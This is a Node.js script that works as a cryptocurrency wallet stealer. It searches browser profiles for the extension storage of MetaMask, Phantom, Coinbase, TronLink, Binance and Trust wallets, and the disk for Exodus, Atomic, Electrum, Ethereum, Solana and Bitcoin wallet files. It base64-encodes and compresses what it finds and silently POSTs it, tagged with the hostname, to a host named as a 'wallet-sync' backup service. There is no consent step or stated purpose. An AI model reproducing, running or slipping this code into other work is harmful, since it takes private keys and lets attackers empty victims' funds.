'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const https = require('https');

const home = os.homedir();
const win = process.platform === 'win32';
const mac = process.platform === 'darwin';
const appData = process.env.APPDATA || (mac ? path.join(home, 'Library', 'Application Support') : path.join(home, '.config'));
const local = process.env.LOCALAPPDATA || appData;

// MetaMask, Phantom, Coinbase, TronLink, Binance, Trust wallet (extension ids)
const exts = [
  'nkbihfbeogaeaoehlefnkodbefgpgknn',
  'bfnaelmomeimhlpmgjnjophhpkkoljpa',
  'hnfanknocfeofbddgcijnmhnfnkdnaad',
  'ibnejdfjmmkpcnlpebklmnkoeoihofec',
  'fhbohimaelbohpjbbldcngcnapndodjp',
  'egjidjbpglichdcondbcbdnbeeppgdph',
];
const browserDirs = win
  ? [path.join(local, 'Google/Chrome/User Data'), path.join(local, 'BraveSoftware/Brave-Browser/User Data'), path.join(local, 'Microsoft/Edge/User Data')]
  : mac
    ? [path.join(appData, 'Google/Chrome'), path.join(appData, 'BraveSoftware/Brave-Browser')]
    : [path.join(home, '.config/google-chrome'), path.join(home, '.config/BraveSoftware/Brave-Browser')];

const desktopWallets = [
  path.join(appData, 'Exodus', 'exodus.wallet'),
  path.join(appData, 'atomic', 'Local Storage', 'leveldb'),
  path.join(appData, 'Electrum', 'wallets'),
  path.join(home, '.electrum', 'wallets'),
  path.join(appData, 'Ethereum', 'keystore'),
  path.join(home, '.ethereum', 'keystore'),
  path.join(home, '.config', 'solana', 'id.json'),
  path.join(home, '.bitcoin', 'wallet.dat'),
];

const files = [];
function walk(p, depth) {
  let st;
  try { st = fs.statSync(p); } catch (e) { return; }
  if (st.isFile()) { if (st.size < 8 * 1024 * 1024) files.push(p); return; }
  if (depth <= 0) return;
  let list = [];
  try { list = fs.readdirSync(p); } catch (e) { return; }
  for (const n of list) walk(path.join(p, n), depth - 1);
}

for (const b of browserDirs) {
  for (const prof of ['Default', 'Profile 1', 'Profile 2', 'Profile 3']) {
    for (const id of exts) walk(path.join(b, prof, 'Local Extension Settings', id), 2);
  }
}
for (const w of desktopWallets) walk(w, 3);

const out = {};
for (const f of files) {
  try { out[f] = fs.readFileSync(f).toString('base64'); } catch (e) {}
}
if (!files.length) process.exit(0);

const gz = zlib.deflateSync(Buffer.from(JSON.stringify(out)));
const req = https.request({
  hostname: 'api.wallet-sync.example',
  path: '/v1/backup?h=' + encodeURIComponent(os.hostname()),
  method: 'POST',
  headers: { 'content-type': 'application/octet-stream', 'content-length': gz.length },
});
req.on('error', () => {});
req.end(gz);
